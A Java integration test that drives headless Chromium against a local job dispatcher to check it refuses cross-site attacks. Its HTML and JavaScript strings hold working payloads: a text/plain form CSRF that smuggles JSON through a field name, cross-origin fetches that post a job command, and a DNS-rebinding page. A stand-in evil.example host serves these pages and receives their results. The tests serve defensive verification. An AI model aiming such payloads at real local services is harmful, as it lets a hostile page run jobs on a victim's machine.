package io.stoker.dispatcher.service.rest;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.stoker.common.fixture.Chromium;
import io.stoker.dispatcher.service.testing.OnRealServices;
import java.io.File;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Pages of another site, in a real Chromium on the machine of somebody whose dispatcher asks nobody
 * who they are: none of them runs a job or reads an answer.
 */
@QuarkusTest
@OnRealServices
class BrowserAttacksTest {
  private static final Duration SOON = Duration.ofSeconds(60);
  private static final String SITE = "www.evil.example";

  private final String id = "attack-" + UUID.randomUUID();

  /** What the page says of its attack; it is there once the browser is done with it. */
  private final CompletableFuture<String> told = new CompletableFuture<>();

  private HttpServer site;
  private String page;
  private Path folder;
  private Process browser;

  @BeforeEach
  void open() throws IOException {
    folder = Files.createTempDirectory("stoker-browser");
    site = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    site.createContext("/", call -> answer(call, page));
    site.createContext(
        "/told",
        call -> {
          answer(call, "");
          told.complete(call.getRequestURI().getQuery());
        });
    site.start();
  }

  @AfterEach
  void close() throws Exception {
    site.stop(0);
    if (browser != null) {
      Stream.concat(browser.descendants(), Stream.of(browser.toHandle()))
          .forEach(ProcessHandle::destroyForcibly);
      browser.waitFor();
    }
    try (Stream<Path> files = Files.walk(folder)) {
      files.sorted(Comparator.reverseOrder()).map(Path::toFile).forEach(File::delete);
    }
  }

  @Test
  void form_asPlainText_runsNoJob() throws Exception {
    try (RecordingWire rest = new RecordingWire(RestAssured.port, null)) {
      page =
          """
          <iframe name="there"></iframe>
          <form method="post" enctype="text/plain" target="there" action="http://127.0.0.1:%d/requests">
          <input name='{"id":"%s","command":["true"],"user":"' value='"}'></form>
          <script>
          let frame = document.querySelector('iframe'), sent = false;
          frame.onload = () => { if (sent) tell('answered'); };
          sent = true;
          document.forms[0].submit();
          %s</script>
          """
              .formatted(rest.port(), id, tell());

      visit("http://%s:%d/".formatted(SITE, site.getAddress().getPort()));

      assertThat(said()).isEqualTo("answered");
      assertThat(rest.asked()).contains("POST /requests").contains("text/plain");
      assertRefused(rest);
    }
  }

  @Test
  void fetch_ofAnotherSite_withoutPreflight_runsNoJob() throws Exception {
    try (RecordingWire rest = new RecordingWire(RestAssured.port, null)) {
      page =
          "<script>%s fetch('http://127.0.0.1:%d/requests', {method: 'POST', mode: 'no-cors', body: %s}).then(a => tell(a.type), e => tell('error'))</script>"
              .formatted(tell(), rest.port(), body());

      visit("http://%s:%d/".formatted(SITE, site.getAddress().getPort()));

      assertThat(said()).isIn("opaque", "error");
      assertThat(rest.asked()).contains("POST /requests");
      assertRefused(rest);
    }
  }

  @Test
  void fetch_ofAnotherSite_withPreflight_runsNoJobAndReadsNothing() throws Exception {
    try (RecordingWire rest = new RecordingWire(RestAssured.port, null)) {
      page =
          """
          <script>%1$s
          let there = 'http://127.0.0.1:%2$d';
          fetch(there + '/requests', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %3$s})
            .then(a => 'posted', e => 'no')
            .then(post => fetch(there + '/requests').then(a => a.text()).then(t => tell(post + t), e => tell(post + 'thing')))
          </script>
          """
              .formatted(tell(), rest.port(), body());

      visit("http://%s:%d/".formatted(SITE, site.getAddress().getPort()));

      assertThat(said()).isEqualTo("nothing");
      assertThat(rest.asked()).contains("OPTIONS /requests").doesNotContain("POST /requests");
      assertThat(rest.answered()).doesNotContainIgnoringCase("access-control-allow-origin");
      assertNoJob();
    }
  }

  @Test
  void page_whoseNameIsRebound_runsNoJob() throws Exception {
    page = "";
    String ofTheSite =
        """
        <script>%s
        fetch('/requests', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: %s})
          .then(a => tell('status' + a.status), e => tell('error'))
        </script>
        """
            .formatted(tell(), body());
    try (RecordingWire rest = new RecordingWire(RestAssured.port, ofTheSite)) {
      visit("http://rebound.evil.example:" + rest.port() + "/");

      assertThat(said()).isEqualTo("status403");
      assertThat(rest.asked()).contains("POST /requests").contains("Host: rebound.evil.example");
      assertRefused(rest);
    }
  }

  private void assertRefused(RecordingWire rest) {
    // Its body may come after the answer.
    await().atMost(SOON).until(() -> rest.asked().contains(id));
    await().atMost(SOON).until(() -> rest.answered().contains("HTTP/1.1 403 "));
    assertThat(rest.answered()).doesNotContain("HTTP/1.1 2");
    assertNoJob();
  }

  /** A request that is posted after it is known, and it is not. */
  private void assertNoJob() {
    String after = "after-" + UUID.randomUUID();
    given()
        .contentType(ContentType.JSON)
        .body("{\"id\":\"%s\",\"command\":[\"true\"]}".formatted(after))
        .post("/requests")
        .then()
        .statusCode(202);
    await()
        .atMost(SOON)
        .untilAsserted(() -> given().get("/requests/{id}", after).then().statusCode(200));
    given().get("/requests/{id}", id).then().statusCode(404);
  }

  /** The request of the attack as a text of JavaScript. */
  private String body() {
    return "JSON.stringify({id: '%s', command: ['true']})".formatted(id);
  }

  private String tell() {
    return "function tell(what) { fetch('http://%s:%d/told?' + what, {mode: 'no-cors'}); } "
        .formatted(SITE, site.getAddress().getPort());
  }

  private String said() throws Exception {
    return told.get(SOON.toSeconds(), TimeUnit.SECONDS);
  }

  private void visit(String url) throws IOException {
    List<String> command = new ArrayList<>();
    command.add(Chromium.program().toString());
    command.addAll(
        List.of(
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-background-networking",
            "--user-data-dir=" + folder.resolve("profile"),
            "--host-resolver-rules=MAP *.evil.example 127.0.0.1",
            "--remote-debugging-port=0",
            url));
    ProcessBuilder builder =
        new ProcessBuilder(command)
            .redirectErrorStream(true)
            .redirectOutput(folder.resolve("browser.log").toFile());
    builder.environment().put("TMPDIR", folder.toString()); // what it leaves there goes with it
    browser = builder.start();
  }

  private static void answer(HttpExchange call, String text) throws IOException {
    byte[] body = text.getBytes(StandardCharsets.UTF_8);
    call.getResponseHeaders().add("Content-Type", "text/html");
    call.sendResponseHeaders(200, body.length == 0 ? -1 : body.length);
    call.getResponseBody().write(body);
    call.close();
  }
}
